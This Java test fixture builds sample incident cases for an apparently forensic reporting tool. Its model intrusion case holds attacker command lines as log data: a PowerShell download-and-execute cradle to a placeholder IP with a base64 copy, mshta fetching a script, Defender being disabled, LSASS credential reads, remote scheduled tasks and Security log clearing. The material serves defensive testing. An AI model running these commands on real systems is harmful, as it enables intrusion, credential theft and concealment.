package io.ashiato.publish;

import io.ashiato.model.AccountSummary;
import io.ashiato.model.Assessment;
import io.ashiato.model.Assessment.Reason;
import io.ashiato.model.Assessment.TamperingVerdict;
import io.ashiato.model.Confidence;
import io.ashiato.model.Diagnostic;
import io.ashiato.model.DiagnosticCode;
import io.ashiato.model.EvidenceItem;
import io.ashiato.model.EvidenceKind;
import io.ashiato.model.HostSummary;
import io.ashiato.model.HostSummary.ChannelCoverage;
import io.ashiato.model.IncidentCase;
import io.ashiato.model.Indicator;
import io.ashiato.model.ItemOutcome;
import io.ashiato.model.KnowledgeUsed;
import io.ashiato.model.Likelihood;
import io.ashiato.model.RecordRef;
import io.ashiato.model.RuleCoverage;
import io.ashiato.model.RuleProblem;
import io.ashiato.model.TamperingFact;
import io.ashiato.model.Tlp;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalLong;

/// Cases to publish in tests: one as real ones are, an empty one, a hostile one, a big one.
final class SampleCases {
    private static final String SECURITY = "Security";
    private static final String SYSMON = "Microsoft-Windows-Sysmon/Operational";
    private static final String DEFENDER = "Microsoft-Windows-Windows Defender/Operational";
    static final String FIN = "FIN-WS07";
    static final String APP = "APP-02";

    private SampleCases() {}

    /// The model case whole: the logs, the lure, the programs, and who did it.
    static IncidentCase intrusion() {
        return ModelCase.of(logs());
    }

    /// The logs of the model case alone; names, times and values are made up.
    static IncidentCase logs() {
        var make = new CaseMaker();
        String sato = "CORP\\j.sato";
        String admin = "CORP\\svc-deploy";
        make.rule("Word starts Explorer", "WordによるExplorerの起動", "high", "execution", "T1204.002");
        make.rule("Mshta loads script from a link shortener", "短縮URLからスクリプトを取得するmshta", "high", "stealth", "T1218.005");
        make.rule(
                "PowerShell with a public address",
                "外部アドレスを引数に持つPowerShell",
                "high",
                "execution",
                "T1059.001",
                "T1105");
        make.rule(
                "Defender switched off by PowerShell",
                "PowerShellによるDefenderの無効化",
                "critical",
                "defense-impairment",
                "T1685");
        make.rule("Memory of LSASS read", "LSASSのメモリの読み取り", "critical", "credential-access", "T1003.001");
        make.rule("WDigest keeps passwords", "WDigestによる平文パスワードの保持", "high", "credential-access", "T1112");
        make.rule("Security package added to LSA", "LSAへのセキュリティパッケージの追加", "high", "persistence", "T1547.005");
        make.rule("Task created on another host", "他ホストへのタスクの登録", "high", "lateral-movement", "T1053.005", "T1021.002");
        make.rule("Program in ProgramData", "ProgramData直下のプログラム", "medium", "stealth", "T1036.005");
        make.rule("System details collected", "システム情報の収集", "medium", "discovery", "T1082");
        make.rule(
                "Security log cleared or exported by wevtutil",
                "wevtutilによるSecurityログの消去または出力",
                "high",
                "defense-impairment",
                "T1685.005");
        make.rule("Connection to a rare port", "まれなポートへの接続", "medium", "command-and-control", "T1071.001");

        make.finding(FIN, sato)
                .saw(
                        "2019-10-02T00:14:07.1234567Z",
                        "Word starts Explorer",
                        SYSMON,
                        "1",
                        "CommandLine",
                        "C:\\Windows\\explorer.exe \"C:\\Users\\j.sato\\AppData\\Local\\Temp\\Password.txt.lnk\"")
                .saw(
                        "2019-10-02T00:14:09.2Z",
                        "Mshta loads script from a link shortener",
                        SYSMON,
                        "1",
                        "CommandLine",
                        "C:\\Windows\\System32\\mshta.exe https://bit.ly/2example")
                .saw(
                        "2019-10-02T00:15:31Z",
                        "System details collected",
                        SYSMON,
                        "1",
                        "CommandLine",
                        "cmd.exe /c systeminfo & tasklist /v & ipconfig /all")
                .saw(
                        "2019-10-02T00:16:44Z",
                        "PowerShell with a public address",
                        SYSMON,
                        "1",
                        "CommandLine",
                        "powershell.exe -w hidden -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77:8080/open?topic=v11&session=44')\" "
                                + "-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcAJwApAA==")
                .saw("2019-10-02T00:18:02Z", "Connection to a rare port", SYSMON, "3", "DestinationIp", "203.0.113.77")
                .done();
        make.finding(FIN, sato)
                .saw(
                        "2019-10-02T02:03:11Z",
                        "Defender switched off by PowerShell",
                        SYSMON,
                        "1",
                        "CommandLine",
                        "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true")
                .saw(
                        "2019-10-02T02:09:40Z",
                        "Security package added to LSA",
                        SYSMON,
                        "13",
                        "TargetObject",
                        "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\Security Packages")
                .saw(
                        "2019-10-02T02:11:02Z",
                        "WDigest keeps passwords",
                        SYSMON,
                        "13",
                        "TargetObject",
                        "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential")
                .saw(
                        "2019-10-02T02:31:55Z",
                        "Memory of LSASS read",
                        SYSMON,
                        "10",
                        "TargetImage",
                        "C:\\Windows\\System32\\lsass.exe")
                .done();
        make.finding(FIN, admin)
                .saw(
                        "2019-10-03T05:40:18Z",
                        "Task created on another host",
                        SYSMON,
                        "1",
                        "CommandLine",
                        "schtasks.exe /create /s APP-02 /u CORP\\svc-deploy /p ******** /tn \"\\Microsoft\\Windows\\Servicing\\Update\" /tr \"C:\\ProgramData\\ntuser.exe\" /sc once /st 14:45")
                .done();
        make.finding(APP, admin)
                .saw(
                        "2019-10-03T05:45:02Z",
                        "Program in ProgramData",
                        SYSMON,
                        "1",
                        "Image",
                        "C:\\ProgramData\\ntuser.exe")
                .saw("2019-10-03T05:47:20Z", "Connection to a rare port", SYSMON, "3", "DestinationIp", "203.0.113.77")
                .saw(
                        "2019-10-03T05:58:33Z",
                        "Memory of LSASS read",
                        SYSMON,
                        "10",
                        "TargetImage",
                        "C:\\Windows\\System32\\lsass.exe")
                .done();
        make.finding(APP, admin)
                .saw(
                        "2019-10-07T23:50:00Z",
                        "Program in ProgramData",
                        SYSMON,
                        "1",
                        "Image",
                        "C:\\ProgramData\\perflog.exe")
                .saw(
                        "2019-10-07T23:52:30Z",
                        "System details collected",
                        SYSMON,
                        "1",
                        "CommandLine",
                        "net group \"Domain Admins\" /domain")
                .done();
        make.finding(FIN, sato)
                .saw(
                        "2019-10-09T17:38:12Z",
                        "Security log cleared or exported by wevtutil",
                        SYSMON,
                        "1",
                        "CommandLine",
                        "wevtutil.exe epl Security C:\\Users\\Public\\s.evtx")
                .saw(
                        "2019-10-09T17:40:01Z",
                        "Security log cleared or exported by wevtutil",
                        SYSMON,
                        "1",
                        "CommandLine",
                        "wevtutil.exe cl Security")
                .done();

        TamperingFact disabled = make.tampering(
                TamperingFact.Kind.ANTIVIRUS_DISABLED,
                "2019-10-02T02:03:12Z",
                FIN,
                Optional.empty(),
                "real-time protection",
                DEFENDER,
                "5001");
        TamperingFact cleared = make.tampering(
                TamperingFact.Kind.LOG_CLEARED,
                "2019-10-09T17:40:02Z",
                FIN,
                Optional.of(sato),
                SECURITY,
                SECURITY,
                "1102");
        make.indicator(
                Indicator.Kind.IPV4,
                "203.0.113.77",
                Indicator.Role.CONTACTED,
                Confidence.MODERATE,
                true,
                "F-001",
                "F-004");
        make.indicator(
                Indicator.Kind.URL,
                "https://bit.ly/2example",
                Indicator.Role.CONTACTED,
                Confidence.HIGH,
                false,
                "F-001");
        make.indicator(
                Indicator.Kind.FILE_PATH,
                "C:\\ProgramData\\ntuser.exe",
                Indicator.Role.EXECUTED,
                Confidence.MODERATE,
                true,
                "F-003",
                "F-004");
        make.indicator(
                Indicator.Kind.SHA256,
                "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                Indicator.Role.EXECUTED,
                Confidence.HIGH,
                true,
                "F-004");

        List<EvidenceItem> items = List.of(
                make.log("first-look/APP-02/Microsoft-Windows-Sysmon%4Operational.evtx", APP, 2_118),
                make.log("first-look/APP-02/Security.evtx", APP, 1_911),
                make.log("first-look/FIN-WS07/Microsoft-Windows-Sysmon%4Operational.evtx", FIN, 6_407),
                make.log("first-look/FIN-WS07/Microsoft-Windows-Windows Defender%4Operational.evtx", FIN, 64),
                new EvidenceItem(
                        "first-look/FIN-WS07/Security.evtx",
                        1_118_208,
                        CaseMaker.hash("sec"),
                        EvidenceKind.EVTX,
                        Optional.of(FIN),
                        new ItemOutcome(ItemOutcome.State.READ_IN_PART, 1_908, 2)),
                new EvidenceItem(
                        "first-look/FIN-WS07/Password.txt.lnk",
                        1_204,
                        CaseMaker.hash("lnk"),
                        EvidenceKind.SHORTCUT,
                        Optional.empty(),
                        ItemOutcome.of(ItemOutcome.State.NO_READER)));
        List<Diagnostic> diagnostics = List.of(
                Diagnostic.of(DiagnosticCode.NO_READER, "first-look/FIN-WS07/Password.txt.lnk")
                        .with("kind", "shortcut"),
                Diagnostic.of(DiagnosticCode.LOG_CHUNK_DAMAGED, "first-look/FIN-WS07/Security.evtx")
                        .at(131_072)
                        .with("field", "checksum"));
        List<HostSummary> hosts = List.of(
                make.host(
                        APP,
                        4_029,
                        5,
                        new ChannelCoverage(SYSMON, 2_118, at("2019-10-01T22:00:00Z"), at("2019-10-10T01:00:00Z")),
                        new ChannelCoverage(SECURITY, 1_911, at("2019-10-01T22:00:04Z"), at("2019-10-10T01:00:00Z"))),
                make.host(
                        FIN,
                        8_379,
                        12,
                        new ChannelCoverage(SYSMON, 6_407, at("2019-09-30T23:50:00Z"), at("2019-10-10T00:30:00Z")),
                        new ChannelCoverage(SECURITY, 1_908, at("2019-10-09T17:40:02Z"), at("2019-10-10T00:30:00Z")),
                        new ChannelCoverage(DEFENDER, 64, at("2019-10-01T00:00:00Z"), at("2019-10-02T02:03:12Z"))));
        return new IncidentCase(
                "AS-0f3c9a12de",
                Instant.parse("2026-11-23T04:00:00Z"),
                "Ashiato 0.1.0",
                Tlp.AMBER,
                "19",
                items,
                diagnostics,
                12_408,
                make.detections(),
                at("2019-09-30T23:50:00Z"),
                at("2019-10-10T01:00:00Z"),
                new RuleCoverage(
                        142,
                        12,
                        List.of(new RuleProblem(
                                "E012",
                                "rules/x.yml",
                                14,
                                9,
                                "unknown modifier 'containz' in 'CommandLine|containz'; did you mean 'contains'?")),
                        List.of(
                                new RuleCoverage.SilentSource("windows/ps_script", 21),
                                new RuleCoverage.SilentSource("windows/taskscheduler", 3))),
                hosts,
                List.of(
                        new AccountSummary(
                                sato, List.of(FIN), at("2019-10-02T00:14:07.1234567Z"), at("2019-10-09T17:40:01Z"), 11),
                        new AccountSummary(
                                admin, List.of(APP, FIN), at("2019-10-03T05:40:18Z"), at("2019-10-07T23:52:30Z"), 6)),
                make.findings(),
                List.of(disabled, cleared),
                List.of(
                        new Assessment.Intrusion(
                                Likelihood.ALMOST_CERTAIN,
                                Confidence.MODERATE,
                                List.of(
                                        new Reason(Reason.Kind.GRAVE_FINDINGS, true, 5),
                                        new Reason(Reason.Kind.TACTICS_COVERED, true, 8),
                                        new Reason(Reason.Kind.INDEPENDENT_RULES, true, 12),
                                        new Reason(Reason.Kind.EVIDENCE_UNREAD, false, 1),
                                        new Reason(Reason.Kind.TAMPERING_PROVEN, false, 2)),
                                List.of("F-002", "F-001", "F-004", "F-006")),
                        new Assessment.Tampering(APP, TamperingVerdict.NONE_SEEN, List.of(), List.of(), List.of()),
                        new Assessment.Tampering(
                                FIN,
                                TamperingVerdict.PROVEN,
                                List.of("T-01", "T-02"),
                                List.of("F-002"),
                                List.of(SYSMON)),
                        nobody()),
                make.indicators(),
                make.techniques(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                KNOWLEDGE);
    }

    /// Nothing was handed in that could be read.
    static IncidentCase empty() {
        return new IncidentCase(
                "AS-0000000000",
                Instant.parse("2026-11-23T04:00:00Z"),
                "Ashiato 0.1.0",
                Tlp.CLEAR,
                "19",
                List.of(),
                List.of(),
                0,
                0,
                Optional.empty(),
                Optional.empty(),
                new RuleCoverage(0, 0, List.of(), List.of()),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(nobody()),
                List.of(),
                Map.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                KNOWLEDGE);
    }

    /// The same text in every place that evidence, knowledge or a rule can fill.
    static IncidentCase hostile(String text) {
        return HostileCase.of(hostileLogs(text), text);
    }

    private static IncidentCase hostileLogs(String text) {
        var make = new CaseMaker();
        make.rule(text, text, "critical", "execution", "T1059.001");
        make.finding(text, text)
                .saw("2020-01-01T00:00:00Z", text, text, text, text, text)
                .done();
        make.indicator(Indicator.Kind.URL, text, Indicator.Role.CONTACTED, Confidence.LOW, false, "F-001");
        make.indicator(Indicator.Kind.DOMAIN, text, Indicator.Role.CONTACTED, Confidence.LOW, false, "F-001");
        make.indicator(Indicator.Kind.FILE_PATH, text, Indicator.Role.FILE, Confidence.LOW, false, "F-001");
        make.indicator(Indicator.Kind.IPV4, text, Indicator.Role.SOURCE, Confidence.LOW, false, "F-001");
        TamperingFact fact = make.tampering(
                TamperingFact.Kind.LOG_CLEARED, "2020-01-01T00:00:01Z", text, Optional.of(text), text, text, text);
        return new IncidentCase(
                "AS-1111111111",
                Instant.parse("2026-11-23T04:00:00Z"),
                "Ashiato 0.1.0",
                Tlp.AMBER_STRICT,
                "19",
                List.of(new EvidenceItem(
                        text,
                        10,
                        CaseMaker.hash("h"),
                        EvidenceKind.EVTX,
                        Optional.of(text),
                        ItemOutcome.of(ItemOutcome.State.NOT_READ))),
                List.of(Diagnostic.of(DiagnosticCode.UNREADABLE, text)
                        .with("reason", text)
                        .with(text, text)),
                3,
                make.detections(),
                at("2020-01-01T00:00:00Z"),
                at("2020-01-01T00:00:01Z"),
                new RuleCoverage(
                        1,
                        1,
                        List.of(new RuleProblem("E001", text, 1, 1, text)),
                        List.of(new RuleCoverage.SilentSource(text, 1))),
                List.of(make.host(
                        text,
                        3,
                        1,
                        new ChannelCoverage(text, 3, at("2020-01-01T00:00:00Z"), at("2020-01-01T00:00:01Z")))),
                List.of(new AccountSummary(
                        text, List.of(text), at("2020-01-01T00:00:00Z"), at("2020-01-01T00:00:00Z"), 1)),
                make.findings(),
                List.of(fact),
                List.of(new Assessment.Tampering(
                        text, TamperingVerdict.PROVEN, List.of("T-01"), List.of("F-001"), List.of(text))),
                make.indicators(),
                make.techniques(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                KNOWLEDGE);
    }

    /// As large as a case of a whole network: 300 items, 100 hosts, 370 rules, 500 findings.
    static IncidentCase big() {
        var make = new CaseMaker();
        String[] techniques = {
            "T1059.001",
            "T1003.001",
            "T1021.002",
            "T1547.001",
            "T1685",
            "T1218.011",
            "T1082",
            "T1071.001",
            "T1486",
            "T1112"
        };
        String[] tactics = {
            "execution",
            "credential-access",
            "lateral-movement",
            "persistence",
            "defense-impairment",
            "stealth",
            "discovery",
            "command-and-control",
            "impact",
            "persistence"
        };
        String[] levels = {"critical", "high", "medium", "low"};
        for (int i = 0; i < 370; i++) {
            make.rule(
                    "Rule number " + i + " with a title of the usual length",
                    "検知ルールその" + i,
                    levels[i % 4],
                    tactics[i % 10],
                    techniques[i % 10]);
        }
        Instant start = Instant.parse("2017-03-01T08:00:00Z");
        for (int i = 0; i < 500; i++) {
            Instant begin = start.plusSeconds(i * 200_000L);
            var finding = make.finding("HOST-%03d.corp.example".formatted(i % 100), "CORP\\user%02d".formatted(i % 37));
            for (int k = 0; k < 24; k++) {
                finding.saw(
                        begin.plusSeconds(k * 61L).toString(),
                        "Rule number " + (i * 7 + k) % 370 + " with a title of the usual length",
                        k % 2 == 0 ? SYSMON : SECURITY,
                        "4688",
                        "CommandLine",
                        "C:\\Windows\\System32\\cmd.exe /c " + "x".repeat(200 + i) + k);
            }
            finding.done();
        }
        for (int i = 0; i < 300; i++) {
            make.indicator(
                    Indicator.Kind.IPV4,
                    "198.51." + i % 250 + "." + i % 200,
                    Indicator.Role.CONTACTED,
                    Confidence.MODERATE,
                    true,
                    "F-001");
        }
        List<TamperingFact.Kind> kinds = List.of(TamperingFact.Kind.values());
        var facts = new ArrayList<TamperingFact>();
        var hosts = new ArrayList<HostSummary>();
        for (int i = 0; i < 100; i++) {
            String host = "HOST-%03d.corp.example".formatted(i);
            facts.add(make.tampering(
                    kinds.get(i % kinds.size()),
                    start.plusSeconds(i * 777_777L).toString(),
                    host,
                    Optional.of("CORP\\user01"),
                    "Security",
                    SECURITY,
                    "1102"));
            hosts.add(make.host(
                    host,
                    50_000,
                    120,
                    new ChannelCoverage(
                            SECURITY, 40_000, Optional.of(start), Optional.of(start.plusSeconds(i * 800_000L + 5))),
                    new ChannelCoverage(
                            SYSMON, 10_000, Optional.of(start), Optional.of(start.plusSeconds(90_000_000L)))));
        }
        var items = new ArrayList<EvidenceItem>();
        for (int i = 0; i < 300; i++) {
            items.add(make.log(
                    "evidence/HOST-%03d/Windows/System32/winevt/Logs/log%d.evtx".formatted(i % 100, i),
                    "HOST-%03d.corp.example".formatted(i % 100),
                    1000));
        }
        return new IncidentCase(
                "AS-2222222222",
                Instant.parse("2026-11-23T04:00:00Z"),
                "Ashiato 0.1.0",
                Tlp.GREEN,
                "19",
                items,
                List.of(),
                5_000_000,
                make.detections(),
                Optional.of(start),
                Optional.of(start.plusSeconds(90_000_000L)),
                new RuleCoverage(2858, 370, List.of(), List.of()),
                hosts,
                List.of(),
                make.findings(),
                facts,
                List.of(new Assessment.Intrusion(
                        Likelihood.ALMOST_CERTAIN,
                        Confidence.HIGH,
                        List.of(new Reason(Reason.Kind.GRAVE_FINDINGS, true, 500)),
                        List.of("F-001"))),
                make.indicators(),
                make.techniques(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                KNOWLEDGE);
    }

    private static final KnowledgeUsed KNOWLEDGE = new KnowledgeUsed("2026-11-23", Optional.empty(), 0, List.of());

    private static Assessment nobody() {
        return new Assessment.Attribution(Optional.empty(), Optional.of(Assessment.Refusal.NOTHING_POINTS), List.of());
    }

    static Optional<Instant> at(String time) {
        return Optional.of(Instant.parse(time));
    }

    static RecordRef source(String path, long record) {
        return new RecordRef(
                path, CaseMaker.hash(path), 4_096 + record * 512, OptionalLong.of(record), OptionalLong.of(record));
    }
}
